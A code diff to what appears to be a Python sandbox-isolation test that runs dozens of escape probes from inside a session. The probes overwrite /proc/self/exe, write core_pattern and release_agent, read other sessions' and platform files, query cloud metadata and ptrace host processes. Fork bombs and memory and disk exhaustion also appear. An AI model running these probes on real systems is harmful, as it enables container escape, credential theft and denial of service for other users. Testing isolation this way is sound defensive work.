@@ -1,7 +1,8 @@
 """What a hostile program tries from inside a session. Runs there, with the standard library alone.
 
 Each attack returns in words what it gained, or nothing. Refusals (OSError) are what we want. Its
-docstring says what an attacker would have of it.
+docstring says what an attacker would have of it. A bomb is an attack that takes its whole session
+with it if the limits hold, so each has a session of its own.
 """
 
 from __future__ import annotations
@@ -27,6 +28,9 @@ from typing import Any
 FACTS: dict[str, Any] = {}
 """What the test on the host prepared: see ``test_isolation``."""
 ATTACKS: dict[str, Callable[[], str | None]] = {}
+BOMBS: dict[str, Callable[[], str | None]] = {}
+NEEDS: dict[str, str] = {}
+"""Attack or bomb → the limit that holds it (``RuntimeFacts``), where not every machine has it."""
 LIBC = ctypes.CDLL(None, use_errno=True)
 NUMBERS = {
     "x86_64": {
@@ -35,7 +39,9 @@ NUMBERS = {
         "name_to_handle_at": 303, "open_by_handle_at": 304, "perf_event_open": 298,
         "pivot_root": 155, "process_vm_readv": 310, "ptrace": 101, "quotactl": 179,
         "reboot": 169, "request_key": 249, "setns": 308, "swapon": 167, "umount2": 166,
-        "unshare": 272, "userfaultfd": 323, "acct": 163, "syslog": 103,
+        "unshare": 272, "userfaultfd": 323, "acct": 163, "syslog": 103, "adjtimex": 159,
+        "ioprio_set": 251, "kcmp": 312, "process_vm_writev": 311, "setxattr": 188, "mq_open": 240,
+        "memfd_create": 319, "mmap": 9, "shmget": 29, "mq_timedsend": 242,
     },
     "aarch64": {
         "add_key": 217, "bpf": 280, "clone": 220, "delete_module": 106, "fanotify_init": 262,
@@ -43,7 +49,9 @@ NUMBERS = {
         "name_to_handle_at": 264, "open_by_handle_at": 265, "perf_event_open": 241,
         "pivot_root": 41, "process_vm_readv": 270, "ptrace": 117, "quotactl": 60,
         "reboot": 142, "request_key": 218, "setns": 268, "swapon": 224, "umount2": 39,
-        "unshare": 97, "userfaultfd": 282, "acct": 89, "syslog": 116,
+        "unshare": 97, "userfaultfd": 282, "acct": 89, "syslog": 116, "adjtimex": 171,
+        "ioprio_set": 30, "kcmp": 272, "process_vm_writev": 271, "setxattr": 5, "mq_open": 180,
+        "memfd_create": 279, "mmap": 222, "shmget": 194, "mq_timedsend": 182,
     },
 }[os.uname().machine]  # fmt: skip
 COMMON = {
@@ -53,9 +61,25 @@ COMMON = {
 WRITABLE = ("/work", "/outputs", "/home/user", "/tmp", "/var/tmp", "/dev/shm")
 
 
-def attack(function: Callable[[], str | None]) -> Callable[[], str | None]:
+Attack = Callable[[], str | None]
+
+
+def attack(function: Attack) -> Attack:
     ATTACKS[function.__name__] = function
     return function
+
+
+def bomb(function: Attack) -> Attack:
+    BOMBS[function.__name__] = function
+    return function
+
+
+def needs(limit: str) -> Callable[[Attack], Attack]:
+    def mark(function: Attack) -> Attack:
+        NEEDS[function.__name__] = limit
+        return function
+
+    return mark
 
 
 def call(name: str, *arguments: object) -> int:
@@ -90,6 +114,14 @@ def opens(paths: Iterator[str] | tuple[str, ...], flags: int) -> str | None:
             os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
             found.append(path)
     return ", ".join(found[:8]) or None
+
+
+def connects(family: int, address: Any) -> bool:
+    with contextlib.suppress(OSError), socket.socket(family) as sock:
+        sock.settimeout(2)
+        sock.connect(address)
+        return True
+    return False
 
 
 def files_below(top: str) -> Iterator[str]:
@@ -190,6 +222,105 @@ def end_the_init() -> str | None:
 
 
 @attack
+def leave_by_the_root_of_a_process() -> str | None:
+    """The host's files, by ``/proc/PID/root``, ``cwd`` and ``fd`` of whoever has them."""
+    own, found = os.stat("/"), []
+    for pid in (*filter(str.isdecimal, os.listdir("/proc")), str(FACTS["host_pid"]), "self"):
+        for name in ("root", "cwd", "root/..", "cwd/../../../../.."):
+            with contextlib.suppress(OSError):
+                info = os.stat(f"/proc/{pid}/{name}/etc")
+                if (info.st_dev, info.st_ino) != (os.stat("/etc").st_dev, os.stat("/etc").st_ino):
+                    found.append(f"{pid}/{name}")
+        with contextlib.suppress(OSError):
+            found += [
+                f"{pid}/fd/{fd}"
+                for fd in os.listdir(f"/proc/{pid}/fd")
+                if stat.S_ISDIR(os.stat(f"/proc/{pid}/fd/{fd}").st_mode)
+                and os.stat(f"/proc/{pid}/fd/{fd}").st_dev != own.st_dev
+                and os.stat(f"/proc/{pid}/fd/{fd}").st_dev != os.stat("/proc").st_dev
+            ]
+    return str(found) if found else None
+
+
+@attack
+def overwrite_the_program_that_started_us() -> str | None:
+    """Root's next start of it runs our code (CVE-2019-5736: ``/proc/self/exe`` of runc)."""
+    found = []
+    for pid in ("1", "self", str(os.getppid())):
+        with contextlib.suppress(OSError):
+            handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
+            for path in (f"/proc/{pid}/exe", f"/proc/self/fd/{handle}"):
+                with contextlib.suppress(OSError):
+                    os.close(os.open(path, os.O_WRONLY))
+                    found.append(path)
+    return str(found) if found else None
+
+
+@attack
+def write_the_memory_of_a_setuid_program() -> str | None:
+    """Our code runs as root: a program that we started may be ours to write."""
+    for program in ("/bin/su", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp"):
+        with contextlib.suppress(FileNotFoundError):
+            child = subprocess.Popen(
+                [program], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
+            )
+            try:
+                with open(f"/proc/{child.pid}/status", encoding="ascii") as file:
+                    uids = next(line.split()[1:] for line in file if line.startswith("Uid:"))
+                if set(uids) != {str(os.getuid())}:
+                    return f"{program} runs as {uids}"
+            finally:
+                child.kill()
+                child.communicate()
+    return None
+
+
+@attack
+def change_processes_of_the_host() -> str | None:
+    """Limits, memory and priority of anything that runs as the same number elsewhere."""
+    pid, found = FACTS["host_pid"], []
+    buffer = ctypes.create_string_buffer(8)
+    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
+    tries: dict[str, Callable[[], object]] = {
+        "memory": lambda: call("process_vm_writev", pid, local, 1, local, 1, 0),
+        "ptrace": lambda: call("ptrace", 0x4206, pid, 0, 0),
+        "limits": lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
+        "nice": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
+        "scheduler": lambda: os.sched_setaffinity(pid, {0}),
+        "group": lambda: os.killpg(pid, 0),
+        "stop": lambda: os.kill(pid, signal.SIGSTOP),
+    }
+    for name, action in tries.items():
+        with contextlib.suppress(OSError):
+            action()
+            found.append(name)
+    return str(found) if found else None
+
+
+@attack
+def compare_with_the_init() -> str | None:
+    """Order of kernel addresses, and which of its descriptors are the host's."""
+    return f"{call('kcmp', os.getpid(), 1, 1, 0, 0)}"
+
+
+@attack
+def leave_a_daemon_behind() -> str | None:
+    """Computes on, free of charge, after the session has ended (the test looks for it)."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(number, signal.SIG_IGN)
+            signal.alarm(0)
+            for fd in (*FACTS["own_fds"], 0, 1, 2):
+                os.close(fd)
+            time.sleep(1000)
+        os._exit(0)
+    os.wait()
+    return None
+
+
+@attack
 def use_leaked_descriptors() -> str | None:
     """A folder or socket of the host, left open by whoever started us."""
     here = os.open("/proc/self/fd", os.O_RDONLY)
@@ -228,7 +359,7 @@ def gain_by_executing() -> str | None:
 @attack
 def become_another_user() -> str | None:
     """Files and processes of another session, or root."""
-    for uid in (0, os.getuid() + 1, os.getuid() - 1):
+    for uid in {0, os.getuid() + 1, abs(os.getuid() - 1)} - {os.getuid()}:
         for change in (os.setuid, os.setgid, os.seteuid):
             with contextlib.suppress(OSError):
                 change(uid)
@@ -250,7 +381,7 @@ def run_setuid_programs() -> str | None:
     with open("/proc/self/mountinfo", encoding="utf-8") as file:
         mounts = [line.split()[4:6] for line in file]
     suid = [path for path, flags in mounts if "nosuid" not in flags and not is_null(path)]
-    for program in ("su", "sudo", "newgrp", "pkexec"):
+    for program in ("su", "sudo", "newgrp", "pkexec") if os.getuid() else ():
         with contextlib.suppress(OSError, subprocess.TimeoutExpired):
             done = subprocess.run(
                 [program, "root", "-c", "id -u"],
@@ -329,6 +460,72 @@ def find_kernel_addresses() -> str | None:
     with open("/proc/kallsyms", encoding="ascii") as file:
         lines = [file.readline() for _ in range(50)]
     return next((line for line in lines if line and int(line.split()[0], 16)), None)
+
+
+@attack
+def stall_the_kernel_by_page_faults() -> str | None:
+    """A fault handler of our own makes every race in the kernel winnable (userfaultfd)."""
+    return succeeded("userfaultfd", 1 | os.O_CLOEXEC)
+
+
+@attack
+def pass_the_filter_by_io_uring() -> str | None:
+    """Opens and connects that no filter of system calls sees."""
+    return succeeded("io_uring_setup", 4, ctypes.create_string_buffer(120))
+
+
+@attack
+def load_a_program_into_the_kernel() -> str | None:
+    """BPF: read the kernel, watch everyone."""
+    attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1), 128)
+    return succeeded("bpf", 0, attributes, 128)
+
+
+@attack
+def count_events_of_the_processor() -> str | None:
+    """Side channels made exact, and a part of the kernel with a bad record."""
+    attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0), 112)
+    return succeeded("perf_event_open", attributes, 0, -1, -1, 0)
+
+
+@attack
+def read_key_rings() -> str | None:
+    """Kerberos tickets and disk keys: key rings are not separated by namespaces."""
+    return succeeded("keyctl add_key request_key", 0, -3, 1, 0, 0) or opens(
+        tuple(p for p in ("/proc/keys",) if os.path.exists(p) and not is_null(p)), os.O_RDONLY
+    )
+
+
+@attack
+def give_a_file_capabilities() -> str | None:
+    """A program of ours that starts with root's powers."""
+    with open("/work/able", "wb") as file:
+        file.write(b"x")
+    value = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
+    call("setxattr", b"/work/able", b"security.capability", value, len(value), 0)
+    return "set"
+
+
+@attack
+def come_before_others_at_the_disk() -> str | None:
+    """Everyone else's reads wait for ours."""
+    call("ioprio_set", 1, 0, 1 << 13)
+    return "real-time class"
+
+
+@attack
+def change_the_clock_s_speed() -> str | None:
+    """Certificates that expire, logs that lie, slowly."""
+    found = []
+    for modes in (0x1, 0x2, 0x4000, 0x8000):
+        with contextlib.suppress(OSError):
+            call("adjtimex", ctypes.create_string_buffer(struct.pack("I", modes), 256))
+            found.append(hex(modes))
+    with contextlib.suppress(OSError), open("/proc/1/timerslack_ns", "w", encoding="ascii") as file:
+        file.write("1000000000")
+        file.flush()
+        found.append("timers of the init")
+    return str(found) if found else None
 
 
 @attack
@@ -464,6 +661,145 @@ def look_around_in_sys() -> str | None:
     return str(found) if found - {"devices", "fs", "fs/cgroup"} else None
 
 
+@attack
+def set_the_core_pattern() -> str | None:
+    """A program of ours that the kernel runs as root on the host at the next crash."""
+    return opens(("/proc/sys/kernel/core_pattern",), os.O_WRONLY)
+
+
+@attack
+def set_the_kernel_s_helpers() -> str | None:
+    """Programs that the kernel runs as root: module loader, hotplug, interpreters, power-off."""
+    names = ("modprobe", "hotplug", "poweroff_cmd", "usermodehelper/bset")
+    paths = tuple(f"/proc/sys/kernel/{name}" for name in names)
+    paths += ("/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register")
+    return opens(paths, os.O_WRONLY)
+
+
+@attack
+def press_magic_keys() -> str | None:
+    """Crash or restart the machine (sysrq)."""
+    paths = ("/proc/sysrq-trigger", "/proc/self/../sysrq-trigger", "/proc/sys/kernel/sysrq")
+    return opens(tuple(p for p in paths if os.path.exists(p) and not is_null(p)), os.O_WRONLY)
+
+
+@attack
+def set_a_release_agent() -> str | None:
+    """A program of ours that the kernel runs as root when a control group empties."""
+    paths = [p for p in files_below("/sys/fs/cgroup") if "release" in p or "event_control" in p]
+    return opens((*paths, "/sys/fs/cgroup/release_agent"), os.O_WRONLY)
+
+
+@attack
+def uncover_what_is_masked() -> str | None:
+    """Kernel memory and settings under the mounts that hide them."""
+    found = []
+    for path in ("/proc/kcore", "/proc/sys", "/proc/sysrq-trigger", "/sys", "/etc/passwd"):
+        if LIBC.umount2(path.encode(), 2) == 0:
+            found.append(f"umount {path}")
+        if LIBC.mount(None, path.encode(), None, 32 | 4096, None) == 0:
+            found.append(f"remount {path}")
+    return str(found) if found else None
+
+
+@attack
+def replace_the_mount_points() -> str | None:
+    """The next program that the platform starts, or copies for us, works where we say."""
+    found = []
+    for path in (*WRITABLE, "/madang/run", "/proc", "/etc/passwd"):
+        for change in (os.rmdir, os.unlink, lambda p: os.rename(p, p + "-old")):
+            with contextlib.suppress(OSError):
+                change(path)
+                found.append(path)
+    return str(found) if found else None
+
+
+@attack
+def leave_a_mount_by_renaming() -> str | None:
+    """A folder that is moved out of a bind mount has the host's folders above it."""
+    os.makedirs("/work/up/down", exist_ok=True)
+    inside = os.open("/work/up/down", os.O_RDONLY)
+    for target in ("/tmp/down", "/home/user/down", "/outputs/down", "/dev/shm/down"):
+        with contextlib.suppress(OSError):
+            os.rename("/work/up/down", target)
+            return f"renamed to {target}"
+    at = inside
+    for _ in range(40):
+        at = os.open("..", os.O_RDONLY, dir_fd=at)
+    here, root = os.fstat(at), os.stat("/")
+    same = (here.st_dev, here.st_ino) == (root.st_dev, root.st_ino)
+    return None if same else f"above the root: {os.listdir(at)}"
+
+
+@attack
+def follow_a_link_while_it_changes() -> str | None:
+    """A check of one path, a use of another: files of the host by a link that flips."""
+    secret, found = FACTS["host_files"][0], None
+    flipper = os.fork()
+    if flipper == 0:
+        signal.alarm(3)
+        while True:
+            for target in ("/etc/hostname", f"/proc/1/root{secret}", secret):
+                with contextlib.suppress(OSError):
+                    os.symlink(target, "/tmp/flip-new")
+                    os.rename("/tmp/flip-new", "/tmp/flip")
+    late = time.monotonic() + 0.3
+    while found is None and time.monotonic() < late:
+        with contextlib.suppress(OSError), open("/tmp/flip", encoding="utf-8") as file:
+            found = "the host's file" if file.read() == "host" else None
+    os.kill(flipper, signal.SIGKILL)
+    os.wait()
+    return found
+
+
+@attack
+def link_files_of_the_host() -> str | None:
+    """An old setuid program kept, with its hole; a file that root will change for us."""
+    found = []
+    for source in ("/etc/passwd", "/etc/shadow", "/bin/su", "/usr/bin/su", "/usr/bin/env"):
+        for folder in WRITABLE:
+            with contextlib.suppress(OSError):
+                os.link(source, f"{folder}/linked")
+                found.append(f"{source} in {folder}")
+    return str(found) if found else None
+
+
+@attack
+def open_a_file_by_its_number() -> str | None:
+    """Any file of the file system that /work lies on, those of the platform among them."""
+    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0), 128)
+    folder = os.open("/work", os.O_RDONLY)
+    return succeeded("open_by_handle_at", folder, handle, os.O_RDONLY)
+
+
+@attack
+def read_the_platform_s_state() -> str | None:
+    """The database, the administrator's token, the journal: rule over everything."""
+    return opens(tuple(FACTS["platform_files"]), os.O_RDONLY)
+
+
+@attack
+def read_another_session() -> str | None:
+    """Other people's files, output and settings."""
+    found = [path for path in FACTS["victim_files"] if os.path.exists(path)]
+    found += [f"names of {top}" for top in FACTS["victim_files"] if os.path.isdir(top)]
+    return str(found) if found else None
+
+
+@attack
+def write_to_sys() -> str | None:
+    """Hardware, power, other people's devices."""
+    return opens(files_below("/sys"), os.O_WRONLY)
+
+
+@attack
+def find_secrets_in_what_is_mounted() -> str | None:
+    """Names and folders of other sessions, out of the list of mounts."""
+    with open("/proc/self/mountinfo", encoding="utf-8") as file:
+        lines = [line.rstrip() for line in file if FACTS["victim"] in line]
+    return str(lines) if lines else None
+
+
 # -- network and messages ------------------------------------------------------------------------
 
 
@@ -553,6 +889,100 @@ def find_other_terminals() -> str | None:
     return str(found) if found else None
 
 
+@attack
+def talk_to_the_launcher() -> str | None:
+    """Root's own helper: start sessions as anybody, remove those of others."""
+    found = [path for path in FACTS["sockets"] if connects(socket.AF_UNIX, path)]
+    return str(found) if found else None
+
+
+@attack
+def ask_the_metadata_service() -> str | None:
+    """The machine's own keys to the cloud that it runs in."""
+    places: list[tuple[int, Any]] = [
+        (socket.AF_INET, ("169.254.169.254", 80)),
+        (socket.AF_INET, ("169.254.170.2", 80)),
+        (socket.AF_INET6, ("fd00:ec2::254", 80, 0, 0)),
+    ]
+    found = [address[0] for family, address in places if connects(family, address)]
+    return str(found) if found else None
+
+
+@attack
+def find_the_host_s_addresses() -> str | None:
+    """Neighbours to attack, and proof of where we run."""
+    with open("/proc/net/route", encoding="ascii") as file:
+        routes = file.read().splitlines()[1:]
+    with open("/proc/net/tcp", encoding="ascii") as file:
+        ports = [line for line in file if f":{FACTS['host_port']:04X} " in line]
+    return f"{routes} {ports}" if routes or ports else None
+
+
+@attack
+def read_the_wire() -> str | None:
+    """Everyone's traffic, and packets with a false sender."""
+    found = []
+    for family, kind, protocol in ((17, 3, 0x300), (17, 2, 0x300), (2, 3, 1), (2, 3, 255)):
+        with contextlib.suppress(OSError):
+            socket.socket(family, kind, protocol).close()
+            found.append((family, kind, protocol))
+    return str(found) if found else None
+
+
+@attack
+def hear_the_kernel_s_events() -> str | None:
+    """Devices, processes and audit records of the whole machine (netlink)."""
+    found = []
+    for protocol in (9, 10, 11, 15, 18, 20):
+        with contextlib.suppress(OSError):
+            socket.socket(16, 3, protocol).close()
+            found.append(protocol)
+    return str(found) if found else None
+
+
+@attack
+def reach_another_session() -> str | None:
+    """Its services on loopback and on abstract names: they trust whoever gets there."""
+    found = []
+    if connects(socket.AF_UNIX, b"\0" + FACTS["victim_name"].encode()):
+        found.append("abstract socket")
+    if connects(socket.AF_INET, ("127.0.0.1", FACTS["victim_port"])):
+        found.append("loopback")
+    if LIBC.shmget(FACTS["victim_key"], 0, 0) != -1:
+        found.append("shared memory")
+    if os.path.exists(f"/dev/shm/{FACTS['victim_name']}"):
+        found.append("/dev/shm")
+    return str(found) if found else None
+
+
+@attack
+def find_message_queues() -> str | None:
+    """Orders to other people's programs (System V and POSIX)."""
+    found = []
+    if LIBC.msgget(FACTS["shm_key"], 0) != -1:
+        found.append("System V")
+    with contextlib.suppress(OSError):
+        call("mq_open", FACTS["queue"].encode(), os.O_RDWR, 0, 0)
+        found.append("POSIX")
+    return str(found) if found else None
+
+
+@attack
+def find_semaphores() -> str | None:
+    """Other programs wait for ever."""
+    return "System V" if LIBC.semget(FACTS["shm_key"], 0, 0) != -1 else None
+
+
+@attack
+def type_by_a_disguised_request() -> str | None:
+    """The same as typing, past a filter that compares more bits than the kernel."""
+    _, slave = os.openpty()
+    LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
+    wide = [high | low for low in (0x5412, 0x541C, 0x541D) for high in (1 << 32, 0xFF << 32)]
+    found = [hex(request) for request in wide if LIBC.ioctl(slave, request, b"x") == 0]
+    return str(found) if found else None
+
+
 # -- limits --------------------------------------------------------------------------------------
 
 
@@ -578,6 +1008,25 @@ def go_before_others() -> str | None:
 
 
 @attack
+def take_huge_pages() -> str | None:
+    """Memory that the administrator set aside for others, outside of our memory limit."""
+    found = []
+    tries: dict[str, tuple[object, ...]] = {
+        "mmap": (0, 1 << 21, 3, 0x40022, -1, 0),
+        "memfd_create": (b"huge", 4),
+        "shmget": (0, 1 << 21, 0o4000 | 0o1600),
+    }
+    for name, arguments in tries.items():
+        try:
+            call(name, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
+        except OSError as exc:
+            if exc.errno in {errno.EINVAL, errno.ENOSYS, errno.EPERM}:
+                continue  # ENOMEM: it was let in, and there is none just now.
+        found.append(name)
+    return str(found) if found else None
+
+
+@attack
 def be_spared_when_memory_is_short() -> str | None:
     """Others are killed instead."""
     with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
@@ -585,6 +1034,7 @@ def be_spared_when_memory_is_short() -> str | None:
     return "oom_score_adj -900"
 
 
+@needs("cpu")
 @attack
 def use_all_processors() -> str | None:
     """More than was paid for."""
@@ -622,6 +1072,174 @@ def change_clock_and_name() -> str | None:
     return "hostname"
 
 
+# -- bombs: each in a session of its own ---------------------------------------------------------
+
+BLOCK = 1 << 20
+
+
+def times_the_limit(taken_bytes: int) -> str | None:
+    return f"{taken_bytes} bytes" if taken_bytes > 2 * FACTS["mem_bytes"] else None
+
+
+@needs("mem")
+@bomb
+def eat_memory() -> str | None:
+    """The machine swaps, other people's programs are killed."""
+    held = [b"x" * BLOCK for _ in range(4 * FACTS["mem_bytes"] // BLOCK)]
+    return times_the_limit(len(held) * BLOCK)
+
+
+@needs("mem")
+@bomb
+def eat_memory_in_nameless_files() -> str | None:
+    """Memory that is no process's: memfd."""
+    taken = 0
+    for _ in range(200):
+        fd = os.memfd_create("x")
+        for _ in range(4):
+            taken += os.write(fd, b"x" * BLOCK)
+    return times_the_limit(taken)
+
+
+@needs("mem")
+@bomb
+def eat_memory_in_shared_folders() -> str | None:
+    """Memory that is no process's: files in /dev/shm, beyond its size too."""
+    taken = 0
+    with contextlib.suppress(OSError):
+        for number in range(1000):
+            with open(f"/dev/shm/{number}", "wb", buffering=0) as file:
+                taken += file.write(b"x" * BLOCK)
+    return times_the_limit(taken)
+
+
+@needs("mem")
+@bomb
+def eat_memory_in_segments() -> str | None:
+    """Memory that is no process's: System V, which outlives its makers."""
+    LIBC.shmat.restype = ctypes.c_void_p
+    taken = 0
+    for _ in range(200):
+        segment = LIBC.shmget(0, 4 * BLOCK, 0o1600)
+        address = LIBC.shmat(segment, None, 0)
+        ctypes.memset(address, 1, 4 * BLOCK)
+        LIBC.shmdt(ctypes.c_void_p(address))
+        taken += 4 * BLOCK
+    return times_the_limit(taken)
+
+
+@needs("mem")
+@bomb
+def eat_memory_in_pipes_and_sockets() -> str | None:
+    """Buffers inside the kernel, which no process is billed for."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[1:] * 2)
+    taken, held = 0, []
+    with contextlib.suppress(OSError):
+        while taken <= 2 * FACTS["mem_bytes"]:
+            pair = socket.socketpair()
+            pair[0].setblocking(False)
+            held.append(pair)
+            with contextlib.suppress(BlockingIOError):
+                while True:
+                    taken += pair[0].send(b"x" * 65536)
+    return times_the_limit(taken)
+
+
+@needs("mem")
+@bomb
+def eat_memory_in_names() -> str | None:
+    """Inodes and names of files without content, in a folder that is made of memory."""
+    count = 0
+    with contextlib.suppress(OSError):
+        while count < 2_000_000:
+            os.close(os.open(f"/dev/shm/{count:0200}", os.O_CREAT | os.O_WRONLY))
+            count += 1
+    return f"{count} names" if count * 1024 > 2 * FACTS["mem_bytes"] else None
+
+
+@bomb
+def use_up_watches_and_timers() -> str | None:
+    """Nobody else gets one: inotify, timers, queues."""
+    made = 0
+    with contextlib.suppress(OSError):
+        while made < 100_000:
+            if LIBC.inotify_init1(0) == -1:
+                break
+            made += 1
+    queues = 0
+    with contextlib.suppress(OSError):
+        while queues < 100_000:
+            call("mq_open", b"q%d" % queues, os.O_CREAT | os.O_RDWR, 0o600, 0)
+            queues += 1
+    return f"{made} watchers, {queues} queues" if max(made, queues) >= 100_000 else None
+
+
+@needs("pids")
+@bomb
+def fork_without_end() -> str | None:
+    """Nobody can start a program any more."""
+    made = 0
+    with contextlib.suppress(OSError):
+        while made < 4 * FACTS["pids"]:
+            if os.fork() == 0:
+                with contextlib.suppress(OSError):
+                    while True:
+                        os.fork()
+                time.sleep(1000)
+            made += 1
+    return f"{made} processes" if made > FACTS["pids"] else None
+
+
+@needs("disk")
+@bomb
+def write_without_end() -> str | None:
+    """The machine's disk is full, for everybody."""
+    taken = 0
+    for folder in ("/work", "/tmp", "/outputs", "/home/user", "/var/tmp"):
+        with contextlib.suppress(OSError), open(f"{folder}/big", "wb", buffering=0) as file:
+            while taken <= 4 * FACTS["disk_bytes"]:
+                taken += file.write(b"x" * BLOCK)
+    return f"{taken} bytes" if taken > 2 * FACTS["disk_bytes"] else None
+
+
+@needs("disk")
+@bomb
+def reserve_without_writing() -> str | None:
+    """The same by holes and reservations, which no count of written bytes sees."""
+    taken = 0
+    with open("/work/holes", "wb") as file:
+        with contextlib.suppress(OSError):
+            os.ftruncate(file.fileno(), 1 << 40)
+        for size in (1 << 30, BLOCK, 4096):
+            with contextlib.suppress(OSError):
+                while taken <= 4 * FACTS["disk_bytes"]:
+                    os.posix_fallocate(file.fileno(), taken, size)
+                    taken += size
+    return f"{taken} bytes" if taken > 2 * FACTS["disk_bytes"] else None
+
+
+@needs("disk")
+@bomb
+def use_up_inodes() -> str | None:
+    """A disk with room on which nobody can make a file."""
+    count = 0
+    with contextlib.suppress(OSError):
+        while count <= FACTS["disk_bytes"] // 1024:
+            os.close(os.open(f"/work/{count}", os.O_CREAT | os.O_WRONLY))
+            count += 1
+    return f"{count} files" if count > FACTS["disk_bytes"] // 1024 else None
+
+
+@bomb
+def write_output_without_end() -> str | None:
+    """The platform's own disk is full: of output (the test looks at what is kept)."""
+    block = b"x" * 65536
+    for _ in range(FACTS["log_bytes"] * 6 // len(block)):
+        os.write(1, block)
+        os.write(2, block)
+    return None
+
+
 def attempt(function: Callable[[], str | None]) -> str | None:
     """In a child of its own: whatever it does to itself, the next one is not affected."""
     reader, writer = os.pipe()
@@ -648,6 +1266,9 @@ def attempt(function: Callable[[], str | None]) -> str | None:
 
 def main() -> None:
     FACTS.update(json.loads(sys.argv[1]))
+    if len(sys.argv) > 2:
+        print("\ngained", json.dumps(BOMBS[sys.argv[2]]()), flush=True)
+        return
     for name, function in ATTACKS.items():
         print(json.dumps([name, attempt(function)]), flush=True)
     # Last: whoever else can be reached would be gone now.
